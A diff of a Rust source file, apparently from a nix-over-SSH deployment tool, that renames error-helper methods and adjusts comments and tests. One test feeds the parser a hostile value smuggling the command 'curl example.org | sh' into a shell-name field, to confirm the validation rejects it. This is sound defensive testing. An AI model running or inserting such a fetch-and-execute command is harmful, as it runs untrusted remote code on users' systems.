@@ -50,7 +50,7 @@ impl Greeting {
         let mut greeting = Self { printed, ..Self::default() };
         for line in told.lines() {
             match line.split_once(' ') {
-                // It is shown in a hint, which a person follows.
+                // It is shown in a help, which a person follows.
                 Some(("shell", name)) if name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)) => {
                     greeting.shell = name.chars().take(SHELL).collect();
                 }
@@ -77,18 +77,18 @@ impl Greeting {
     /// Whether nix can copy through that login shell.
     ///
     /// # Errors
-    /// When it cannot, with the mend.
+    /// When it cannot, with the help.
     pub fn takes_copies(&self, host: &str, user: &str) -> Result<()> {
         if !self.printed.is_empty() {
             return Err(Error::failed(format!("{host}: the login shell of {user} prints where only programs may"))
                 .because(format!("it prints {:?}", self.printed))
-                .hint(format!("nix cannot copy through it: look at {}", self.culprits(user))));
+                .help(format!("nix cannot copy through it: look at {}", self.culprits(user))));
         }
         if self.nix == Nix::Nowhere {
             return Err(Error::failed(format!(
                 "{host}: nix is not found there: `nix-daemon` is not in the PATH of {user} over SSH"
             ))
-            .hint(format!("install nix there, or put it into that PATH: `ssh {host} 'echo $PATH'` shows it")));
+            .help(format!("install nix there, or put it into that PATH: `ssh {host} 'echo $PATH'` shows it")));
         }
         Ok(())
     }
@@ -137,11 +137,11 @@ mod tests {
         let text = "welcome jaysealift-begins\nshell bash\nfile .bashrc\nfile .zshenv\nnix\nsealift-ends\nbye\n";
         let error = Greeting::read(text).unwrap().takes_copies("web", "jay").unwrap_err();
         assert!(error.in_one_line().contains("\"welcome jay bye\""), "{error:?}");
-        assert!(error.mend().unwrap().contains("look at ~jay/.bashrc ("), "{error:?}");
+        assert!(error.advice().unwrap().contains("look at ~jay/.bashrc ("), "{error:?}");
         // A host may tell anything.
         let text = "sealift-begins\nshell x; see `curl example.org | sh`\nnix\nsealift-ends\nhello\n";
         let error = Greeting::read(text).unwrap().takes_copies("web", "jay").unwrap_err();
-        assert!(error.mend().unwrap().contains("look at what it reads at its start"), "{error:?}");
+        assert!(error.advice().unwrap().contains("look at what it reads at its start"), "{error:?}");
         for text in ["", "This account is not available.\n", "sealift-begins\nshell bash\n"] {
             assert_eq!(Greeting::read(text), None);
         }
